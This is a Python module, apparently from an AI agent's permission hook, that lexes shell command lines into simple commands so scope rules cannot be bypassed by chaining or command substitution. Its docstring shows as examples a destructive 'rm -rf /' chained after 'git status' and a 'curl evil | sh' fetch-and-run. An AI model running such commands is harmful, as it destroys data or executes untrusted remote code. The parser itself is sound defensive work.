"""Split a shell command line into the simple commands a scope rule must judge.

A rule like ``Bash(git status)`` must not allow ``git status && rm -rf /``, and
``echo "$(curl evil | sh)"`` hides two more commands inside a quoted word. So we lex with
the standard library's POSIX shell lexer (``shlex`` with punctuation characters, which
keeps the hook's import path lean) and split on every control operator, and we look inside
``$(...)`` and backticks recursively.

Anything we cannot lex (an unbalanced quote, say) is reported as unparseable: the caller
must then never *allow* the command on a rule, only ask or deny — fail closed.
"""

from __future__ import annotations

import re
import shlex

#: Tokens that end one simple command and start another.
SEPARATORS = frozenset(
    {"&&", "||", ";", "|", "&", "|&", ";;", ";&", ";;&", "\n", "(", ")", "{", "}"}
)
_PUNCTUATION = "();<>|&\n"
_HEREDOC = re.compile(r"<<-?\s*(['\"]?)([A-Za-z_][A-Za-z0-9_]*)\1")
_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
_MAX_DEPTH = 8


class ShellParseError(ValueError):
    """The command line could not be lexed; treat it as never auto-allowable."""


def _strip_heredoc_bodies(command: str) -> str:
    """Drop here-document bodies: they are data, not commands (and often hold apostrophes)."""
    lines = command.split("\n")
    out: list[str] = []
    i = 0
    while i < len(lines):
        line = lines[i]
        out.append(line)
        delimiters = [m.group(2) for m in _HEREDOC.finditer(line)]
        i += 1
        for delimiter in delimiters:
            while i < len(lines) and lines[i].strip() != delimiter:
                i += 1
            i += 1  # the delimiter line itself
    return "\n".join(out)


def _strip_comments(command: str) -> str:
    """Remove ``# ...`` comments that the shell itself would ignore, keeping the newline.

    Done on the raw text with a quote-aware scan, because after quote removal an unquoted
    ``# rest`` and a quoted ``"#" rest`` look alike, and treating the second as a comment
    would hide ``rest`` from deny rules.
    """
    out: list[str] = []
    quote = ""
    i, n = 0, len(command)
    while i < n:
        ch = command[i]
        if quote:
            out.append(ch)
            if ch == "\\" and quote == '"' and i + 1 < n:
                out.append(command[i + 1])
                i += 1
            elif ch == quote:
                quote = ""
        elif ch == "\\" and i + 1 < n:
            out.append(ch + command[i + 1])
            i += 1
        elif ch in "'\"":
            quote = ch
            out.append(ch)
        elif ch == "#" and (i == 0 or command[i - 1] in " \t\n;&|()"):
            end = command.find("\n", i)
            i = n if end < 0 else end
            continue
        else:
            out.append(ch)
        i += 1
    return "".join(out)


def _substitutions(word: str) -> list[str]:
    """Return the bodies of ``$(...)`` and backtick substitutions inside one word."""
    found: list[str] = []
    i = 0
    while i < len(word):
        if word.startswith("$(", i) and not word.startswith("$((", i):
            depth, j = 1, i + 2
            while j < len(word) and depth:
                if word[j] == "(":
                    depth += 1
                elif word[j] == ")":
                    depth -= 1
                j += 1
            found.append(word[i + 2 : j - 1] if depth == 0 else word[i + 2 :])
            i = j
        elif word[i] == "`":
            j = word.find("`", i + 1)
            found.append(word[i + 1 :] if j < 0 else word[i + 1 : j])
            i = len(word) if j < 0 else j + 1
        else:
            i += 1
    return found


def _lex(command: str) -> list[str]:
    lexer = shlex.shlex(command, posix=True, punctuation_chars=_PUNCTUATION)
    lexer.whitespace = " \t\r"
    lexer.whitespace_split = True
    lexer.commenters = ""  # handled below: shlex's comments would swallow the newline
    try:
        return list(lexer)
    except ValueError as exc:
        raise ShellParseError(f"cannot parse shell command: {exc}") from None


def simple_commands(command: str, _depth: int = 0) -> list[str]:
    """Return every simple command in ``command`` as normalised text (words joined by one space).

    Quotes are removed (so ``git "push" --force`` is judged as ``git push --force``), leading
    ``VAR=value`` assignments are dropped, and substituted commands are listed after the
    command that contains them.
    """
    if _depth > _MAX_DEPTH:
        raise ShellParseError("command substitutions nested too deeply")
    tokens = _lex(_strip_comments(_strip_heredoc_bodies(command)))
    commands: list[str] = []
    nested: list[str] = []
    words: list[str] = []

    def flush() -> None:
        while words and _ASSIGNMENT.match(words[0]) and len(words) > 1:
            words.pop(0)
        if words:
            commands.append(" ".join(words))
        words.clear()

    for token in tokens:
        if token in SEPARATORS:
            flush()
            continue
        words.append(token)
        if "$(" in token or "`" in token:
            for body in _substitutions(token):
                nested.extend(simple_commands(body, _depth + 1))
    flush()
    return commands + nested
